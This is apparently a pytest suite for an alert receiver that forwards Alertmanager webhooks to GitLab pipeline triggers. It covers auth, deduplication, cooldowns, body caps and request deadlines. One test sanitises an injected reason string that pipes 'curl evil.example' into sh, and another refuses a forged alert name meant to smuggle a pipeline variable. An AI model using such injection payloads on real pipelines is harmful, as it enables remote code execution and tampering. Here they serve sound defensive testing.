"""The alert receiver against a local HTTP recorder standing in for GitLab (there is no GitLab server here):
Alertmanager-shaped webhooks in, exactly one trigger per incident out, with the pipeline inputs the CI declares
(``inputs[alert_name]`` among the alerts the manifests route here, ``inputs[alert_reason]`` within its pattern).
The Alertmanager route to it is checked with the real amtool in test_prometheus.py; the run through real
Prometheus and Alertmanager processes is test_alert_path.py."""

from __future__ import annotations

import http.client
import json
import os
import re
import socket
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from prometheus_client import generate_latest
from pydantic import ValidationError

from forkcast_contract.metric_names import RETRAIN_ALERTS
from forkcast_devservers.ports import free_port
from forkcast_devservers.process import spawn, stop
from forkcast_devservers.ready import http_ok, wait_until
from forkcast_monitoring import manifest_config, receiver
from forkcast_monitoring.receiver import (
    ALERT_REASON_PATTERN,
    Deduplicator,
    TriggerTarget,
    WebhookAuth,
    WebhookServer,
    alert_reason,
    make_server,
)
from forkcast_monitoring.settings import ReceiverSettings

REPO = Path(__file__).resolve().parents[3]


def post(url: str, alerts: list[dict[str, Any]]) -> None:
    data = json.dumps({"version": "4", "status": "firing", "alerts": alerts}).encode()
    req = urllib.request.Request(url, data=data, headers={"Content-Type": "application/json"}, method="POST")
    with urllib.request.urlopen(req, timeout=5) as resp:
        assert resp.status == 200


def alert(fp: str, status: str = "firing", version: str = "v2") -> dict[str, Any]:
    return {
        "status": status,
        "fingerprint": fp,
        "labels": {"alertname": "OnlineAucLow", "action": "retrain", "model_version": version},
        "annotations": {"summary": f"Online AUC of {version} is 0.620, below the 0.70 floor"},
    }


def test_one_trigger_per_incident(recorder: tuple[str, list[Any]]) -> None:
    gitlab, calls = recorder
    server = make_server(
        "127.0.0.1", 0, TriggerTarget(gitlab, "group/forkcast", "main", "s3cret"), cooldown_s=3600
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/alerts"
    try:
        post(url, [alert("a1")])
        post(url, [alert("a1")])  # Alertmanager's repeat
        post(url, [alert("a1"), alert("b2", version="v3")])  # a second alert of the same incident: cooldown
        post(url, [alert("a1", status="resolved")])
        post(url, [alert("a1")])  # fires again inside the cooldown
        metrics = generate_latest(server.registry).decode()
    finally:
        server.shutdown()
    assert len(calls) == 1
    path, form = calls[0]
    assert path == "/api/v4/projects/group%2Fforkcast/trigger/pipeline"
    assert form == {  # issue 18.3: inputs, never variables (which override the CI's own), token in the body
        "token": ["s3cret"],
        "ref": ["main"],
        "inputs[alert_name]": ["OnlineAucLow"],
        "inputs[alert_reason]": ["Online AUC of v2 is 0.620, below the 0.70 floor"],
    }
    assert 'forkcast_retrain_triggers_total{outcome="sent"} 1.0' in metrics
    assert 'forkcast_retrain_triggers_total{outcome="cooldown"} 2.0' in metrics


def test_failed_trigger_is_retried_on_the_next_repeat(recorder: tuple[str, list[Any]]) -> None:
    _gitlab, calls = recorder
    server = make_server(
        "127.0.0.1", 0, TriggerTarget("http://127.0.0.1:9", "1", "main", "t"), cooldown_s=3600
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/alerts"
    try:
        post(url, [alert("a1")])  # GitLab unreachable
        post(url, [alert("a1")])  # the repeat is tried again, not swallowed as a duplicate
        metrics = generate_latest(server.registry).decode()
    finally:
        server.shutdown()
    assert 'forkcast_retrain_triggers_total{outcome="failed"} 2.0' in metrics
    assert calls == []


# --- authentication, body limits and probes, against the real receiver server --------------------------------


@pytest.fixture
def guarded(
    recorder: tuple[str, list[Any]], tmp_path: Path
) -> Iterator[tuple[str, Path, list[Any], WebhookServer]]:
    """A receiver that requires the bearer token in a file (as the mounted Secret provides it), body cap 2 KiB."""
    gitlab, calls = recorder
    token = tmp_path / "webhook-token"
    token.write_text("am-secret\n")
    server = make_server(
        "127.0.0.1",
        0,
        TriggerTarget(gitlab, "group/forkcast", "main", "s3cret"),
        cooldown_s=0,
        auth=WebhookAuth(token),
        max_body_bytes=2048,
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}", token, calls, server
    server.shutdown()


def send(base: str, body: bytes, headers: dict[str, str], chunked: bool = False) -> int:
    """POST /alerts; the HTTP status (http.client: no client-side body rules in the way)."""
    host, port = base.removeprefix("http://").split(":")
    conn = http.client.HTTPConnection(host, int(port), timeout=5)
    try:
        try:
            if chunked:
                conn.request("POST", "/alerts", body=iter([body]), headers=headers, encode_chunked=True)
            else:
                conn.request("POST", "/alerts", body=body, headers=headers)
        except (BrokenPipeError, ConnectionResetError):
            # The receiver may answer a refused request (411/413) and close before the client has written all of
            # it, as HTTP allows; its answer is still in the socket.
            pass
        return conn.getresponse().status
    finally:
        conn.close()


def metrics_of(server: WebhookServer) -> str:
    """The receiver's counters as the metrics port serves them (test_metrics_and_webhook_have_a_port_each)."""
    return generate_latest(server.registry).decode()


def payload(*alerts: dict[str, Any]) -> bytes:
    return json.dumps({"version": "4", "status": "firing", "alerts": list(alerts)}).encode()


def test_webhook_without_or_with_a_wrong_token_is_refused_and_counted(
    guarded: tuple[str, Path, list[Any], WebhookServer],
) -> None:
    base, _token, calls, _ = guarded
    body = payload(alert("a1"))
    assert send(base, body, {}) == 401
    assert send(base, body, {"Authorization": "Bearer am-secreT"}) == 401
    assert send(base, body, {"Authorization": "Basic am-secret"}) == 401
    assert calls == []
    assert send(base, body, {"Authorization": "Bearer am-secret"}) == 200  # the twin: the right token passes
    assert len(calls) == 1
    metrics = metrics_of(guarded[3])
    assert 'forkcast_retrain_triggers_total{outcome="unauthorized"} 3.0' in metrics
    assert 'forkcast_retrain_triggers_total{outcome="sent"} 1.0' in metrics


def test_rotated_token_takes_effect_without_a_restart(
    guarded: tuple[str, Path, list[Any], WebhookServer],
) -> None:
    base, token, _calls, _ = guarded
    token.write_text("rotated\n")
    assert send(base, payload(alert("a1")), {"Authorization": "Bearer am-secret"}) == 401
    assert send(base, payload(alert("a1")), {"Authorization": "Bearer rotated"}) == 200


def test_body_without_length_or_above_the_cap_is_refused(
    guarded: tuple[str, Path, list[Any], WebhookServer],
) -> None:
    base, _token, calls, _ = guarded
    auth = {"Authorization": "Bearer am-secret"}
    assert send(base, payload(alert("a1")), auth, chunked=True) == 411
    big = payload(*(alert(f"fp{i}") for i in range(20)))
    assert len(big) > 2048
    assert send(base, big, auth) == 413
    assert send(base, b"[1, 2]", auth) == 400
    assert calls == []
    small = payload(alert("a1"))
    assert len(small) <= 2048 and send(base, small, auth) == 200  # the twin: within the cap it is handled
    metrics = metrics_of(guarded[3])
    for outcome in ("length_required", "too_large", "malformed"):
        assert f'forkcast_retrain_triggers_total{{outcome="{outcome}"}} 1.0' in metrics, outcome


def test_probes_answer_without_a_token(guarded: tuple[str, Path, list[Any], WebhookServer]) -> None:
    base = guarded[0]
    for path in ("/healthz", "/readyz"):
        with urllib.request.urlopen(base + path, timeout=5) as resp:
            assert resp.status == 200, path
    with pytest.raises(urllib.error.HTTPError) as err:
        urllib.request.urlopen(base + "/elsewhere", timeout=5)
    assert err.value.code == 404


def test_empty_token_file_is_refused_at_start(tmp_path: Path) -> None:
    token = tmp_path / "empty"
    token.write_text("\n")
    with pytest.raises(ValueError, match=f"webhook token file {token} is empty"):
        WebhookAuth(token)


@pytest.fixture
def clean_env(monkeypatch: pytest.MonkeyPatch) -> None:
    """No FORKCAST_ variable but FORKCAST_ENVIRONMENT=local (the default is production, which refuses at once)."""
    for name in list(os.environ):
        if name.startswith("FORKCAST_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("FORKCAST_ENVIRONMENT", "local")


@pytest.mark.usefixtures("clean_env")
def test_cli_names_every_missing_setting(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as exit_:
        receiver.main([])
    assert exit_.value.code == 2
    err = capsys.readouterr().err
    for name in ("FORKCAST_GITLAB_URL", "FORKCAST_GITLAB_PROJECT_ID", "FORKCAST_GITLAB_TOKEN_FILE"):
        assert name in err, name


@pytest.mark.usefixtures("clean_env")
def test_cli_refuses_an_unreadable_trigger_token_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    missing = tmp_path / "no-such-token"
    args = ["--gitlab-url", "http://gitlab", "--project-id", "1", "--token-file", str(missing)]
    with pytest.raises(SystemExit):
        receiver.main(args)
    assert f"GitLab trigger token file {missing} is not readable" in capsys.readouterr().err


@pytest.mark.usefixtures("clean_env")
def test_production_names_each_missing_setting(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A pod has no command-line options: outside local the class itself refuses what the pod did not set."""
    monkeypatch.setenv("FORKCAST_ENVIRONMENT", "production")
    monkeypatch.setenv("FORKCAST_HOST", "0.0.0.0")
    with pytest.raises(ValidationError) as err:
        ReceiverSettings()
    for name in (
        "FORKCAST_WEBHOOK_TOKEN_FILE",
        "FORKCAST_GITLAB_URL",
        "FORKCAST_GITLAB_PROJECT_ID",
        "FORKCAST_GITLAB_TOKEN_FILE",
    ):
        assert name in str(err.value), name
    monkeypatch.setenv("FORKCAST_WEBHOOK_TOKEN_FILE", str(tmp_path / "webhook"))
    monkeypatch.setenv("FORKCAST_GITLAB_URL", "https://gitlab.com")
    monkeypatch.setenv("FORKCAST_GITLAB_PROJECT_ID", "forkcast/forkcast")
    monkeypatch.setenv("FORKCAST_GITLAB_TOKEN_FILE", str(tmp_path / "trigger"))
    settings = ReceiverSettings()  # the twin: all set, it starts
    assert settings.webhook_token_file == tmp_path / "webhook" and settings.missing() == []


# --- issue 18.3/18.5: what a trigger may carry, who may start the cooldown, bounded memory --------------------------


def _matches(labels: dict[str, str], matcher: dict[str, str]) -> bool:
    """One AlertmanagerConfig matcher (prometheus-operator's v1alpha1 Matcher: name, value, matchType =, !=, =~,
    !~; Alertmanager anchors regular expressions) against an alert's labels."""
    value, kind = labels.get(matcher["name"], ""), matcher.get("matchType", "=")
    if kind in ("=~", "!~"):
        found = re.fullmatch(matcher["value"], value) is not None
        return found if kind == "=~" else not found
    return (value == matcher["value"]) == (kind == "=")


def routed_to_receiver(overlay: str) -> set[str]:
    """The PrometheusRule alerts whose labels match a route of the rendered AlertmanagerConfig that ends at a
    webhook to the alert receiver (its Service, port 9109, path /alerts)."""
    config = manifest_config.load(overlay)
    alerts = [r for g in config.rule_groups for r in g["rules"] if "alert" in r]
    names: set[str] = set()
    for amc in config.alertmanager_configs:
        spec = amc["spec"]
        hooks = {
            r["name"]
            for r in spec["receivers"]
            if any(
                "alert-receiver." in w["url"] and w["url"].endswith(":9109/alerts")
                for w in r.get("webhookConfigs", [])
            )
        }
        for route in spec["route"].get("routes", []):
            if route["receiver"] in hooks:
                for rule in alerts:
                    labels = {"alertname": rule["alert"], **rule.get("labels", {})}
                    if all(_matches(labels, m) for m in route.get("matchers", [])):
                        names.add(rule["alert"])
    return names


@pytest.mark.parametrize("overlay", ["dev", "prod"])
def test_the_receivers_alert_names_are_those_the_manifests_route_to_it(overlay: str) -> None:
    assert routed_to_receiver(overlay) == set(RETRAIN_ALERTS)


def test_the_ci_declares_the_inputs_the_receiver_sends() -> None:
    """.gitlab-ci.yml's spec:inputs (its header document): alert_name's options hold every RETRAIN_ALERTS name and
    alert_reason's regex is the pattern the receiver cuts reasons to, so GitLab accepts every trigger it sends."""
    header = next(yaml.safe_load_all((REPO / ".gitlab-ci.yml").read_text()))
    inputs = header["spec"]["inputs"]
    assert set(RETRAIN_ALERTS) <= set(inputs["alert_name"]["options"])
    assert inputs["alert_reason"]["regex"] == ALERT_REASON_PATTERN


def test_an_alert_not_routed_here_is_refused_and_starts_nothing(recorder: tuple[str, list[Any]]) -> None:
    gitlab, calls = recorder
    server = make_server("127.0.0.1", 0, TriggerTarget(gitlab, "1", "main", "t"), cooldown_s=3600)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    url = f"http://127.0.0.1:{server.server_address[1]}/alerts"
    try:
        forged = alert("x1")
        forged["labels"]["alertname"] = "RETRAIN_IMAGE=evil"
        post(url, [forged])
        post(url, [alert("a1")])  # the twin: a routed alert still triggers (the refusal started no cooldown)
        metrics = generate_latest(server.registry).decode()
    finally:
        server.shutdown()
    assert [form["inputs[alert_name]"] for _, form in calls] == [["OnlineAucLow"]]
    assert 'forkcast_retrain_triggers_total{outcome="unknown_alert"} 1.0' in metrics
    with pytest.raises(ValueError, match="not one that starts a retrain"):
        TriggerTarget(gitlab, "1", "main", "t").send("Watchdog", "x")


def test_alert_reason_is_cut_to_what_the_pipeline_input_accepts() -> None:
    raw = 'AUC 0.61 < 0.70\n"; curl evil.example | sh; echo $(id) `x` ' + "é" * 300
    reason = alert_reason(raw)
    assert re.fullmatch(ALERT_REASON_PATTERN, reason) and len(reason) == 200
    assert reason.startswith("AUC 0.61 _ 0.70 __ curl evil.example _ sh_ echo _(id) _x_ ")
    assert alert_reason("Online AUC of v2 is 0.620, below the 0.70 floor (ticket)") == (
        "Online AUC of v2 is 0.620, below the 0.70 floor (ticket)"
    )  # the twin: a plain summary passes unchanged


def test_an_unauthenticated_alert_cannot_start_the_cooldown(
    recorder: tuple[str, list[Any]], tmp_path: Path
) -> None:
    """Issue 18.5: suppressing a real alert by starting the cooldown first needs the token too."""
    gitlab, calls = recorder
    token = tmp_path / "webhook-token"
    token.write_text("am-secret\n")
    server = make_server(
        "127.0.0.1", 0, TriggerTarget(gitlab, "1", "main", "t"), cooldown_s=3600, auth=WebhookAuth(token)
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        assert send(base, payload(alert("decoy")), {}) == 401
        assert send(base, payload(alert("real")), {"Authorization": "Bearer am-secret"}) == 200
    finally:
        server.shutdown()
    assert (
        len(calls) == 1
    )  # the real alert triggered: the refused one neither triggered nor started the cooldown


def test_seen_fingerprints_expire_and_are_bounded() -> None:
    now = [0.0]
    dedup = Deduplicator(cooldown_s=0, clock=lambda: now[0], seen_ttl_s=3600, max_seen=100)
    assert dedup.admit("a") == "trigger"
    now[0] = 3599.0
    assert dedup.admit("a") == "duplicate"
    now[0] = 3600.0
    assert dedup.admit("a") == "trigger"  # forgotten after the TTL: a still-firing incident may trigger again
    for i in range(10_000):
        dedup.admit(f"fp{i}")
        assert len(dedup.seen) <= 100
    assert list(dedup.seen)[-1] == "fp9999"


# --- attacker review of issue 18.5: the cooldown must not swallow an alert, the deadline must hold a drip -----------


def test_an_alert_held_back_by_the_cooldown_triggers_once_the_cooldown_is_over() -> None:
    """One trigger per cooldown, not one per seen_ttl_s: an alert that fired inside another's cooldown (the first
    one possibly steered by a client, OnlineAucLow on a canary) is still firing when the cooldown ends, and
    Alertmanager's next repeat must start the retrain it asked for. Before the fix the cooldown recorded it as
    seen, so every repeat for the next 24 h was a "duplicate"."""
    now = [0.0]
    dedup = Deduplicator(cooldown_s=600, clock=lambda: now[0], seen_ttl_s=24 * 3600)
    assert dedup.admit("steered") == "trigger"
    now[0] = 60.0
    assert dedup.admit("drift") == "cooldown"
    now[0] = 599.0
    assert dedup.admit("drift") == "cooldown"  # a repeat still inside the cooldown
    now[0] = 660.0
    assert dedup.admit("drift") == "trigger"  # the repeat after it: the held-back alert gets its retrain
    now[0] = 700.0
    assert dedup.admit("drift") == "duplicate"  # and from now on it is remembered as any triggered alert
    assert dedup.admit("steered") == "duplicate"


def test_a_client_dripping_its_request_is_cut_off_at_the_deadline(
    recorder: tuple[str, list[Any]],
) -> None:
    """request_timeout_s bounds the whole request, not each read: before the fix the socket timeout applied per
    recv, so a client sending a byte every 0.2 s (headers first: no token needed) held its thread for as long as
    it liked against a 0.5 s timeout."""
    gitlab, _calls = recorder
    server = make_server(
        "127.0.0.1", 0, TriggerTarget(gitlab, "1", "main", "t"), cooldown_s=0, request_timeout_s=0.5
    )
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with socket.create_connection(("127.0.0.1", server.server_address[1]), timeout=5) as sock:
            sock.sendall(b"POST /alerts HTTP/1.1\r\nHost: x\r\n")
            start = time.monotonic()
            closed_after = None
            for _ in range(25):  # 5 s of drip at most
                time.sleep(0.2)
                try:
                    sock.sendall(b"X")
                except OSError:
                    closed_after = time.monotonic() - start
                    break
                sock.settimeout(0.01)
                try:
                    if sock.recv(4096) == b"":
                        closed_after = time.monotonic() - start
                        break
                except TimeoutError:
                    pass
                except OSError:
                    closed_after = time.monotonic() - start
                    break
        assert closed_after is not None, "the receiver kept a dripping client for 5 s"
        # Six deadlines (was 2 s): room for a starved CI machine, still short of the 5 s a held client drips.
        assert closed_after < 0.5 * 6, closed_after
        # The twin: a request that arrives in time is still served.
        post(f"http://127.0.0.1:{server.server_address[1]}/alerts", [alert("a1")])
    finally:
        server.shutdown()


def test_metrics_and_webhook_have_a_port_each(recorder: tuple[str, list[Any]], tmp_path: Path) -> None:
    """Issue 18.5: the real CLI process serves the webhook on --port and /metrics on --metrics-port, never both on
    one, so the NetworkPolicy can admit Alertmanager alone to the webhook and Prometheus alone to the metrics.
    Before, /metrics answered 200 on the webhook port and there was no metrics port."""
    gitlab, calls = recorder
    (tmp_path / "trigger").write_text("t\n")
    port, metrics_port = free_port(), free_port()
    argv = [
        str(Path(sys.executable).parent / "forkcast-alert-receiver"),
        "--host", "127.0.0.1", "--port", str(port), "--metrics-port", str(metrics_port), "--gitlab-url", gitlab,
        "--project-id", "1", "--token-file", str(tmp_path / "trigger"),
    ]  # fmt: skip
    env = {k: v for k, v in os.environ.items() if not k.startswith("FORKCAST_")} | {
        "FORKCAST_ENVIRONMENT": "local"
    }
    proc = spawn(argv, env=env, log=tmp_path / "receiver.log")
    webhook, metrics = f"http://127.0.0.1:{port}", f"http://127.0.0.1:{metrics_port}"
    try:
        wait_until(lambda: http_ok(f"{metrics}/readyz"), timeout_s=30, what="receiver metrics", proc=proc)
        post(f"{webhook}/alerts", [alert("a1")])
        with pytest.raises(urllib.error.HTTPError) as on_webhook:
            urllib.request.urlopen(f"{webhook}/metrics", timeout=5)
        assert on_webhook.value.code == 404
        assert b"metrics port" in on_webhook.value.read()
        with pytest.raises(urllib.error.HTTPError) as on_metrics:  # no do_POST on the metrics port: 501
            urllib.request.urlopen(
                urllib.request.Request(f"{metrics}/alerts", data=payload(alert("b2"))), timeout=5
            )
        assert on_metrics.value.code == 501
        with urllib.request.urlopen(f"{metrics}/metrics", timeout=5) as resp:
            text = resp.read().decode()
        for probe in ("/healthz", "/readyz"):  # the kubelet probes the webhook port: it answers them
            with urllib.request.urlopen(webhook + probe, timeout=5) as resp:
                assert resp.status == 200, probe
    finally:
        stop(proc)
    assert 'forkcast_retrain_triggers_total{outcome="sent"} 1.0' in text
    assert len(calls) == 1  # the alert posted to the metrics port started nothing
